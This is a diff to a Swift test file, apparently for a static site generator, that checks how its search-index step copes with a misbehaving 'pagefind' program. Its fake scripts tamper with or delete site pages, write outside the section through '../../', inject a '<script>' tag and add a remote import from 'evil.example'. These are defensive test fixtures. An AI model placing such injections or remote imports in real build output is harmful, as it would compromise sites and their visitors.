@@ -10,6 +10,12 @@ import Testing
     try SampleSection.write(to: folder)
   }
 
+  private static let usual = FakePagefind.usual
+  private static let nowhere = #"printf 'pagefind_dcd{"url":"/nowhere.html"}' | gzip -n"#
+  private static let meddling =
+    "программа pagefind меняла страницы, которые должна была только читать"
+  private static let strangeness = "программа pagefind оставила лишние или испорченные файлы"
+
   /// Builds with a program that does what a script says.
   private func build(doing script: String? = nil) throws -> Run {
     let program = try script.map { try FakePagefind.write(to: folder, doing: $0) }
@@ -76,8 +82,22 @@ import Testing
     ("exit 3", "программа pagefind закончила с ошибкой"),
     ("echo x >\"$4/pagefind.js\"", "программа pagefind оставила не всё"),
     ("head -c 2000000 /dev/zero", "программа pagefind сказала слишком много"),
+    ("\(usual)\necho tampered >>\"$2/index.html\"", meddling),
+    ("\(usual)\necho stray >\"$2/stray.html\"", meddling),
+    ("\(usual)\nmkdir \"$2/pagefind\"", meddling),
+    ("\(usual)\nrm \"$2/poisk/index.html\"", meddling),
+    ("\(usual)\necho x >\"$4/fragment/bad name <b>.html\"", strangeness),
+    ("\(usual)\necho '<script>' >\"$4/fragment/index.html\"", strangeness),
+    ("\(usual)\necho x >\"$4/fragment/ru_1.pf_fragment\"", strangeness),
+    ("\(usual)\n\(nowhere) >\"$4/fragment/ru_1.pf_fragment\"", strangeness),
+    (
+      "\(usual)\necho 'import(\"https://evil.example/x.js\")' >\"$4/pagefind.js\"",
+      "скрипт программы pagefind обращается к другому сайту"
+    ),
   ])
   func `that fails leaves the section whole and warns`(script: String, reason: String) throws {
+    _ = Run(section: folder, ["--quiet"])
+    let whole = try folder.tree(at: "public")
     let run = try build(doing: script)
     #expect(
       run.errors == """
@@ -89,8 +109,22 @@ import Testing
 
         """)
     #expect(run.exitCode == 0)
-    #expect(try bundle == [])
-    #expect(try folder.tree(at: "public")["public/index.html"] != nil)
+    let tree = try folder.tree(at: "public")
+    // The page of the search looks for an index, and finds none.
+    for path in tree.keys where !path.contains("/poisk/") && !path.hasSuffix("manifest") {
+      #expect(tree[path] == whole[path], "\(path)")
+    }
+    #expect(tree.keys.sorted() == whole.keys.sorted())
+  }
+
+  @Test func `that is made by touching the section itself stops the build`() throws {
+    _ = Run(section: folder, ["--quiet"])
+    let whole = try folder.tree(at: "public")
+    let run = try build(
+      doing: "\(Self.usual)\necho tampered >>\"$2/../../index.html\"")
+    #expect(run.exitCode == 4)
+    #expect(run.errors.contains("ошибка[output.failed]: Другая программа меняла файлы раздела"))
+    #expect(try folder.tree(at: "public") == whole)
   }
 
   @Test func `that would join a name which pages keep apart is left out`() throws {
@@ -119,7 +153,7 @@ import Testing
         mkdir -p "$4/fragment"
         env >"$4/pagefind.js"
         pwd >>"$4/pagefind.js"
-        printf 'pagefind_dcd{}' | gzip -n >"$4/fragment/ru_0.pf_fragment"
+        printf 'pagefind_dcd{"url":"/index.html"}' | gzip -n >"$4/fragment/ru_0.pf_fragment"
         """)
     #expect(run.exitCode == 0)
     let seen = try #require(try folder.tree()["public/poisk/pagefind/pagefind.js"])
